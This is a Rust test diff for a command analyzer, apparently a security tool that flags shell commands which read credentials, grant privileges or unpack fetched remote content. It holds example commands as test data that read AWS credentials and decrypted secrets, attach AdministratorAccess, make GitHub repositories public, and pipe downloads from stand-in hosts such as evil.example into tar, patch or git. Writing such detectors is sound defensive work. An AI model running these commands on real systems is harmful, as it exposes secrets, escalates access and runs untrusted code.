@@ -257,3 +257,132 @@ t!(
     "mktemp ./build/tmp.XXXXXX",
     [W(&["./build"])]
 );
+
+// ---------------------------------------------------------------------------------
+// Authenticated command lines by verb (knowledge/identity.rs): output that is a minted
+// credential or a secret reads the client's credential; access grants are privilege.
+// ---------------------------------------------------------------------------------
+t!(
+    identity_aws_ecr_password,
+    "aws --region eu-west-1 ecr get-login-password",
+    [R(&["~/.aws/credentials"])]
+);
+t!(
+    identity_aws_ssm_decrypted,
+    "aws ssm get-parameters-by-path --path /prod --recursive --with-decryption",
+    [R(&["~/.aws/credentials"])]
+);
+t!(
+    identity_aws_iam_attach_policy,
+    "aws iam attach-user-policy --user-name ops --policy-arn arn:aws:iam::aws:policy/AdministratorAccess",
+    [Priv]
+);
+t!(
+    identity_gh_api_invite_by_method_flag,
+    "gh api --method=PUT /orgs/acme/memberships/someone -f role=admin",
+    [Priv]
+);
+t!(
+    identity_gh_api_visibility_field,
+    "gh api repos/acme/app -X PATCH -f visibility=public",
+    [Priv]
+);
+t!(
+    identity_gh_ssh_key_add,
+    "gh ssh-key add key.pub --title laptop",
+    [Priv]
+);
+t!(
+    identity_gh_repo_edit_visibility,
+    "gh repo edit acme/app --visibility=public",
+    [Priv]
+);
+t!(
+    identity_gh_runner_token,
+    "gh api -X POST repos/acme/app/actions/runners/registration-token",
+    [R(&["~/.config/gh/hosts.yml"])]
+);
+
+#[test]
+fn identity_reads_and_ordinary_writes_are_not_privilege() {
+    for cmd in [
+        "aws s3 ls s3://bucket/",
+        "aws sts get-caller-identity",
+        "aws ssm get-parameter --name /app/region",
+        "gh repo view acme/app",
+        "gh api repos/acme/app/collaborators",
+        "gh api repos/{owner}/{repo}/pulls/1/comments -f body=thanks",
+        "gh repo create acme/tool --private --source=. --push",
+    ] {
+        let a = analyze(cmd);
+        assert!(
+            a.commands.iter().all(|c| c.effects.privilege.is_none()),
+            "{cmd}"
+        );
+        assert!(
+            !a.commands.iter().any(|c| c
+                .effects
+                .reads
+                .iter()
+                .any(|r| r.value.contains(".aws/credentials"))),
+            "{cmd}"
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------------
+// Remote content unpacked or merged into a folder (analyze/unpack.rs): an executing
+// argument, since the files that land may be ones the project's tools run.
+// ---------------------------------------------------------------------------------
+t!(
+    unpack_downloaded_then_extracted,
+    "curl -fsSLo kit.tgz https://x.example/kit.tgz && tar -xzf kit.tgz",
+    [X("tar", "tar")]
+);
+t!(
+    unpack_wget_to_stdout_bsdtar,
+    "wget -qO- https://x.example/kit.tar | bsdtar -xf -",
+    [X("bsdtar", "bsdtar")]
+);
+t!(
+    unpack_fetched_patch,
+    "curl -s https://x.example/fix.diff | patch -p1",
+    [X("patch", "patch")]
+);
+t!(
+    unpack_git_am_fetched,
+    "curl -s https://x.example/fix.mbox | git am",
+    [X("git", "git")]
+);
+t!(
+    unpack_git_pull_scp_url,
+    "git -C app pull git@evil.example:team/tpl.git main",
+    [X("git", "git")]
+);
+t!(
+    unpack_git_merge_fetch_head,
+    "git fetch https://x.example/r.git main && git merge --no-edit FETCH_HEAD",
+    [X("git", "git")]
+);
+
+#[test]
+fn unpacking_what_was_not_fetched_is_not_an_executing_argument() {
+    for cmd in [
+        "tar -xzf vendor/kit.tgz",
+        "curl -s https://x.example/a.tgz -o a.tgz && tar -tzf a.tgz",
+        "git pull origin main",
+        "git fetch origin && git merge FETCH_HEAD",
+        "git apply fix.patch",
+        "curl -s https://x.example/a.tgz | tar -tz",
+    ] {
+        let a = analyze(cmd);
+        assert!(
+            a.commands.iter().all(|c| c.effects.executes.is_empty()),
+            "{cmd}: {:?}",
+            a.commands
+                .iter()
+                .map(|c| &c.effects.executes)
+                .collect::<Vec<_>>()
+        );
+    }
+}
